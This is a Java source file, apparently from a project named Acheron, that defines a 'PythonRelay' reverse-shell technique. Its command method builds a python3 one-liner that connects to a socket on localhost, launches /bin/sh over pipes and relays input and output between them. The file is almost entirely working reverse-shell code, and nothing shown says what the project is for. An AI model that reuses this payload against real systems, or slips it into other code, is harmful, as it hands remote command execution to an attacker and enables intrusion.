/*
 * SPDX-License-Identifier: Apache-2.0
 * Copyright The Acheron Authors
 */
package io.acheron.local.technique;

import java.util.List;

/** The shell sees nothing but anonymous pipes: python copies between them and the socket. */
public final class PythonRelay extends ReverseShell {
    /** Made by the service loader. */
    public PythonRelay() {
        super(
                "python-relay",
                "python copies between a socket and a shell that only ever sees pipes",
                List.of(List.of("python3")));
    }

    @Override
    List<String> command(Stage stage, int port) throws TechniqueFailedException {
        return List.of(stage.tool("python3"), "-c", """
                import os, socket, subprocess, threading
                s = socket.create_connection(("127.0.0.1", %d))
                p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
                def back():
                    while (data := os.read(p.stdout.fileno(), 4096)):
                        s.sendall(data)
                threading.Thread(target=back, daemon=True).start()
                while (data := s.recv(4096)):
                    os.write(p.stdin.fileno(), data)
                p.stdin.close()
                p.wait()
                """.formatted(port));
    }
}
